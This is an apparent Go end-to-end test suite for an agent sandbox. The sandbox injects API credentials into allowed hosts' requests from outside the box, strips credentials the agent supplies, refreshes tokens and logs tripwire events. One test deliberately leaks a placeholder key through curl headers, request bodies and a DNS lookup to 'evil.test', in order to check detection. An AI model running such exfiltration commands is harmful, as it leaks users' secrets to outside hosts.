package e2e

import (
	"cmp"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"agentbox/internal/boxtest"
	internet "agentbox/internal/boxtest/world"
)

// newSecret is one that URLs and JSON write in other ways, and that no other test has.
func newSecret() string { return "real/" + rand.Text() + "+&=~" }

// withKey makes a project near, whose person has a secret in the variable REAL_KEY. Its profile says what the lines of
// [network] and the tables after them say.
func withKey(t testing.TB, find who, net *internet.World, secret, network, tables string) *world {
	t.Helper()
	w := newWorld(t, find, "")
	w.Account = net.Near(w.Account)
	w.Enter = append(slices.Clone(w.Enter), "env", "REAL_KEY="+secret)
	w.Path = "/usr/local/bin:/usr/bin:/bin"
	w.keys(t, net, network, tables)
	return w
}

// keys writes the profile. What the box trusts for the far servers is not the agent's to say: agentbox talks to them.
func (w *world) keys(t testing.TB, net *internet.World, network, tables string) {
	t.Helper()
	ca := net.CAFile(t, w.Account, w.RuntimeDir)
	w.profile(t, fmt.Sprintf("workspace.mode = \"rw\"\nnetwork.mode = \"allowlist\"\nnetwork.extra_ca = [%q]\n%s\n%s", ca, network, tables))
}

// credential is a table of the profile, for one host; more are further lines of it.
func credential(name, source, host, more string) string {
	return fmt.Sprintf("[[credential]]\nname = %q\nsource = %q\nhosts = [%q]\nenv = \"API_KEY\"\n%s\n", name, source, host, more)
}

const (
	asHeader = `header = "x-api-key"`
	asBearer = `as = "bearer"`
	asQuery  = "as = \"query\"\nquery = \"key\""
	asBasic  = "as = \"basic\"\nuser = \"x-access-token\""
)

// locked serves next to who knows the secret, by the header x-api-key.
func locked(secret string, next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("X-Api-Key") != secret {
			http.Error(w, "who are you?", http.StatusUnauthorized)
			return
		}
		next.ServeHTTP(w, r)
	})
}

// keyedClients are programs that people's agents use, at hosts that want a secret.
var keyedClients = map[string]struct {
	host, as, script, want string
	needs                  boxtest.Feature
	requests               int // that arrive; 0: some
}{
	"HTTP/1.1":           {"api.test", asHeader, `curl -sS --http1.1 -w '%{http_version}' https://api.test/`, "hello from api.test\n1.1", "curl", 1},
	"HTTP/2":             {"api.test", asHeader, `curl -sS --http2 -w '%{http_version}' https://api.test/`, "hello from api.test\n2", "curl", 1},
	"a kept connection":  {"api.test", asHeader, `curl -sS --http1.1 -w '%{num_connects}\n' https://api.test/ https://api.test/2`, "hello from api.test\n1\nhello from api.test\n0", "curl", 2},
	"the same of HTTP/2": {"api.test", asHeader, `curl -sS --http2 -w '%{num_connects}\n' https://api.test/ https://api.test/2`, "hello from api.test\n1\nhello from api.test\n0", "curl", 2},
	"a retry":            {"api.test", asHeader, `curl -sSf --retry 1 https://api.test/flaky`, "hello from api.test", "curl", 2},
	"a redirect":         {"api.test", asHeader, `curl -sSL -H "x-api-key: $API_KEY" https://api.test/away`, "hello from other.test", "curl", 1},
	"a parameter":        {"query.test", asQuery, `curl -sS "https://query.test/?a=1&key=$API_KEY"`, "hello from query.test", "curl", 1},
	"python":             {"api.test", asHeader, `python3 -c 'import urllib.request; print(urllib.request.urlopen("https://api.test/").read().decode())'`, "hello from api.test", "python3", 1},
	"node":               {"api.test", asHeader, `node -e 'fetch("https://api.test/").then(r => r.text()).then(console.log, e => { console.error(e.cause || e); process.exit(1) })'`, "hello from api.test", "node", 1},
	"a WebSocket":        {"ws.test", asHeader, `python3 websocket.py wss://ws.test/ one two`, "one\ntwo\nclosed", "python3", 1},
	"npm":                {"npm.test", asBearer, `npm install --silent --fetch-retries 0 --no-audit --no-fund --registry https://npm.test/ greeter && node_modules/.bin/greet`, "hello from npm", "npm", 0},
	"git": {"git.test", asBasic, `export GIT_TERMINAL_PROMPT=0; git clone -q https://git.test/project.git clone && cd clone && echo more >>file &&
		git -c user.name=a -c user.email=a@example.org commit -qam more && git push -q origin HEAD:refs/heads/topic && git log -1 --format=%s origin/topic && git ls-remote --heads origin | wc -l`, "more\n2", "git", 0},
}

// keyedServers puts the servers far that the clients want, each of which answers only who knows the secret, but for other.test.
func keyedServers(t testing.TB, net *internet.World, secret string) map[string]*internet.Server {
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+secret))
	mux := http.NewServeMux()
	mux.HandleFunc("/", hello)
	mux.Handle("/away", http.RedirectHandler("https://other.test/", http.StatusFound))
	var again atomic.Bool
	mux.HandleFunc("/flaky", func(w http.ResponseWriter, r *http.Request) {
		if !again.Swap(true) {
			http.Error(w, "not yet", http.StatusServiceUnavailable)
			return
		}
		hello(w, r)
	})
	servers := map[string]*internet.Server{}
	for i, s := range []struct {
		name    string
		handler http.Handler
	}{
		{"api.test", locked(secret, mux)}, {"ws.test", locked(secret, internet.WebSocket())}, {"npm.test", internet.Behind("Bearer "+secret, internet.NPM())},
		{"query.test", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			r.Header.Set("X-Api-Key", r.FormValue("key"))
			locked(secret, mux).ServeHTTP(w, r)
		})},
		{"git.test", internet.Behind(basic, internet.Git(t))}, {"other.test", http.HandlerFunc(hello)},
	} {
		at := fmt.Sprintf("203.0.113.%d", 10+i)
		net.Name(s.name, at)
		servers[s.name] = net.HTTPS(at+":443", []string{s.name}, s.handler)
	}
	return servers
}

// carries says whether a request has the secret in it, in the form that the server expects.
func carries(r internet.Request, secret string) bool {
	basic := base64.StdEncoding.EncodeToString([]byte("x-access-token:" + secret))
	for _, values := range r.Header {
		if text := strings.Join(values, " "); strings.Contains(text, secret) || strings.Contains(text, basic) {
			return true
		}
	}
	return strings.HasSuffix(r.URI, "key="+url.QueryEscape(secret))
}

// Every client that knows no secret is let in where the profile has one for the host, and each of its requests carries it,
// and none to another host. Without that table the server does not know it; and where the table is, and the host is not
// in network.allow, nothing arrives.
func TestSecretsAreAddedOutside(t *testing.T) {
	net := internet.New(t)
	secret := newSecret()
	servers := keyedServers(t, net, secret)
	for name, c := range keyedClients {
		t.Run(name, func(t *testing.T) {
			boxtest.Need(t, c.needs)
			server := servers[c.host]
			run := func(find who, network, table string) (result, []internet.Request) {
				w := withKey(t, find, net, secret, network, table)
				w.tools(t)
				before := len(server.Requests())
				return w.sh(t, direct+c.script), server.Requests()[before:]
			}
			allow := fmt.Sprintf("network.allow = [%q, \"other.test\"]", c.host)
			table := credential("key", "env:REAL_KEY", c.host, c.as)
			r, requests := run(mappedUser, allow, "")
			if strings.Contains(r.out, c.want) || len(requests) == 0 || slices.ContainsFunc(requests, func(r internet.Request) bool { return carries(r, secret) }) {
				t.Errorf("without the table: %+v, %d requests", r, len(requests))
			}
			if r, requests := run(mappedUser, `network.allow = ["other.test"]`, table); r.code == 0 || r.code == 125 || len(requests) != 0 {
				t.Errorf("not allowed: %+v, %d requests", r, len(requests))
			}
			r, requests = run(mappedUser, allow, table)
			if r.code != 0 || strings.TrimSpace(r.out) != c.want {
				t.Errorf("%d\n%s%s", r.code, r.out, r.err)
			}
			if n := len(requests); n == 0 || c.requests > 0 && n != c.requests {
				t.Errorf("%d requests", n)
			}
			for _, r := range requests {
				if !carries(r, secret) {
					t.Errorf("without the secret: %s %s", r.Method, r.URI)
				}
			}
		})
	}
	for _, r := range servers["other.test"].Requests() {
		if carries(r, secret) {
			t.Errorf("the secret went to another host: %v", r)
		}
	}
}

// Each kind of account has them, and by a URL of the box's own and a socket, too.
func TestSecretsOfEveryAccount(t *testing.T) {
	boxtest.Need(t, "curl")
	for account, find := range accounts() {
		t.Run(account, func(t *testing.T) {
			boxtest.Leftovers(t)
			net := internet.New(t)
			secret := newSecret()
			servers := keyedServers(t, net, secret)
			w := withKey(t, find, net, secret, `network.allow = ["api.test"]`, credential("key", "env:REAL_KEY", "api.test", asHeader+"\nbase_url_env = \"API_URL\"")+
				"[[credential]]\nname = \"other\"\nsource = \"env:REAL_KEY\"\nhosts = [\"api.test\"]\nsocket_env = \"API_SOCKET\"\n"+asHeader)
			r := w.sh(t, `curl -sS https://api.test/1; `+direct+`curl -sS https://api.test/2; curl -sS $API_URL/3; curl -sS --unix-socket $API_SOCKET http://localhost/4; echo $API_URL`)
			if want := strings.Repeat("hello from api.test\n", 4) + "http://127.0.0.1:3128/key\n"; r.out != want {
				t.Errorf("%+v", r)
			}
			if n := len(servers["api.test"].Requests()); n != 4 {
				t.Errorf("%d requests", n)
			}
		})
	}
}

// Whatever authentication the agent sends to a host of a credential does not arrive there. Without the credential it does.
func TestAStrangersKeyDoesNotArrive(t *testing.T) {
	boxtest.Need(t, "curl")
	net := internet.New(t)
	net.Name("api.test", "203.0.113.10")
	server := net.HTTPS("203.0.113.10:443", []string{"api.test"}, http.HandlerFunc(hello))
	const script = `for v in --http1.1 --http2; do curl -sS $v -H "x-api-key: stranger1" -H "Authorization: Bearer stranger2" -H "X-Auth-Token: stranger3" -H "Proxy-Authorization: Basic stranger4" \
		-b session=stranger5 "https://api.test/?api_key=stranger6&page=7&access_token=stranger8"; curl -sS $v -u me:stranger9 https://api.test/; done`
	arrived := func(table string) string {
		before := len(server.Requests())
		w := withKey(t, mappedUser, net, newSecret(), `network.allow = ["api.test"]`, table)
		if r := w.sh(t, direct+script); r.out != strings.Repeat("hello from api.test\n", 4) {
			t.Errorf("%+v", r)
		}
		return fmt.Sprint(server.Requests()[before:])
	}
	plain := base64.StdEncoding.EncodeToString([]byte("me:stranger9"))
	with := arrived(credential("key", "env:REAL_KEY", "api.test", asHeader))
	if strings.Contains(with, "stranger") || strings.Contains(with, plain) || !strings.Contains(with, "page=7") || !strings.Contains(with, "real/") {
		t.Error(with)
	}
	without := arrived("")
	for _, want := range []string{"stranger1", "stranger2", "stranger3", "stranger4", "stranger5", "stranger6", "stranger8", plain} {
		if !strings.Contains(without, want) {
			t.Errorf("without the credential, %s does not arrive", want)
		}
	}
}

// turnstile says how many keys it has seen, and remembers each.
type turnstile struct {
	mu   sync.Mutex
	seen []string
}

func (s *turnstile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if key := r.Header.Get("X-Api-Key"); len(s.seen) == 0 || s.seen[len(s.seen)-1] != key {
		s.seen = append(s.seen, key)
	}
	fmt.Fprintln(w, len(s.seen))
}

func (s *turnstile) keys() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.seen)
}

// poll asks the turnstile until it has seen so many keys.
const poll = `poll() { n=0; while [ "$(curl -sS https://api.test/)" != $1 ]; do n=$((n+1)); [ $n -lt 500 ] || exit 1; done; echo $1; }
`

// A secret that ends is asked for again before that, and one in a file is used from when it is written.
func TestSecretsThatChange(t *testing.T) {
	boxtest.Need(t, "curl")
	for account, find := range accounts() {
		t.Run(account, func(t *testing.T) {
			net := internet.New(t)
			net.Name("api.test", "203.0.113.10")
			var server *turnstile
			net.HTTPS("203.0.113.10:443", []string{"api.test"}, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { server.ServeHTTP(w, r) }))
			w := withKey(t, find, net, "", "", "")

			server = &turnstile{}
			token := filepath.Join(w.RuntimeDir, "token")
			w.WriteFile(t, token, `#!/bin/sh
				echo x >>$0.times; echo '{"token": "token-number-'$(wc -l <$0.times)'", "expires_in": 2}'`, 0o755)
			w.keys(t, net, `network.allow = ["api.test"]`, credential("key", "command:"+token, "api.test", asHeader))
			if r := w.sh(t, poll+"poll 1; poll 2; poll 3"); r.out != "1\n2\n3\n" {
				t.Errorf("%+v", r)
			}
			if got := server.keys(); len(got) != 3 || got[0] != "token-number-1" || !slices.IsSorted(got) {
				t.Errorf("%q", got)
			}
			if got := w.events(t, "credential.refresh"); len(got) < 2 || got[0].Credential != "key" || got[0].Error != "" {
				t.Errorf("on the record: %+v", got)
			}

			server = &turnstile{}
			file := filepath.Join(w.RuntimeDir, "key")
			w.WriteFile(t, file, "first-of-the-file\n", 0o600)
			w.keys(t, net, `network.allow = ["api.test"]`, credential("key", "file:"+file, "api.test", asHeader))
			b := w.start(t, poll+"echo ready; poll 1; read go; poll 2; cat")
			b.line(t)
			w.WriteFile(t, file+".new", "second-of-the-file", 0o600)
			if err := os.Rename(file+".new", file); err != nil {
				t.Fatal(err)
			}
			fmt.Fprintln(b.stdin)
			b.line(t)
			b.end()
			if got := server.keys(); !slices.Equal(got, []string{"first-of-the-file", "second-of-the-file"}) {
				t.Errorf("%q", got)
			}
			if got := w.events(t, "credential.refresh"); len(got) != 1 {
				t.Errorf("on the record: %+v", got)
			}
		})
	}
}

// An event is what the tests read of one of the log.
type event struct {
	Credential, Where, Via, Host, Path, Model, Error string
	Port                                             int
	Argv, Credentials                                []string

	Tool, ID, Decision, Rule, Reason, Why, Action string
}

// events are those of a type, of the session that was last.
func (w *world) events(t testing.TB, kind string) (list []event) {
	t.Helper()
	r := finish(t, w.agentbox(t, "log", "--json"))
	for line := range strings.Lines(r.out) {
		var e struct {
			Type string
			Data event
		}
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatal(err)
		}
		if e.Type == kind {
			list = append(list, e.Data)
		}
	}
	return list
}

// A placeholder that goes where it has no business is on the record, with the program; and so is what a server sends back.
func TestTripwires(t *testing.T) {
	boxtest.Need(t, "curl", "getent")
	net := internet.New(t)
	net.Name("api.test", "203.0.113.10")
	secret := newSecret()
	net.HTTPS("203.0.113.10:443", []string{"api.test"}, http.HandlerFunc(echo))
	net.Name("plain.test", "203.0.113.15")
	net.HTTP("203.0.113.15:80", http.HandlerFunc(hello))
	w := withKey(t, mappedUser, net, secret, `network.allow = ["api.test", "plain.test:80"]`, credential("key", "env:REAL_KEY", "api.test", asHeader+"\nplaceholder = \"holder-{}\""))
	r := w.sh(t, direct+`curl -sS -H "x-other: $API_KEY" http://plain.test/head >&2; curl -sS -d "a=$API_KEY" http://plain.test/body >&2; getent hosts $API_KEY.evil.test
		curl -sS -H "x-api-key: $API_KEY" -d "$API_KEY" https://api.test/echo >&2; echo $API_KEY`)
	holder := strings.TrimSpace(r.out)
	if !strings.HasPrefix(holder, "holder-agentbox") {
		t.Fatalf("%+v", r)
	}
	var got []string
	for _, e := range w.events(t, "network.tripwire") {
		got = append(got, fmt.Sprintln(e.Credential, e.Where, e.Host, cmp.Or(e.Port, 0), strings.Join(e.Argv, " ")))
	}
	want := []string{
		"key head plain.test 80 curl -sS -H x-other: " + holder + " http://plain.test/head\n",
		"key body plain.test 80 curl -sS -d a=" + holder + " http://plain.test/body\n",
	}
	names := slices.DeleteFunc(slices.Clone(got), func(s string) bool { return !strings.HasPrefix(s, "key name "+strings.ToLower(holder)+".evil.test") })
	got = slices.DeleteFunc(got, func(s string) bool { return strings.HasPrefix(s, "key name ") })
	if !slices.Equal(got, want) || len(names) == 0 {
		t.Errorf("on the record: %q and %q", got, names)
	}
	got = nil
	for _, e := range w.events(t, "network.secret-cut") {
		got = append(got, fmt.Sprint(e.Credential, " ", e.Where, " ", e.Host, " ", e.Port, " ", e.Path))
	}
	if slices.Sort(got); !slices.Equal(slices.Compact(got), []string{"key body api.test 443 /echo", "key head api.test 443 /echo"}) {
		t.Errorf("on the record: %q", got)
	}
	if requests := w.events(t, "network.request"); len(requests) != 3 || !slices.Equal(requests[2].Credentials, []string{"key"}) || len(requests[2].Argv) == 0 || requests[0].Credentials != nil {
		t.Errorf("on the record: %+v", requests)
	}
}
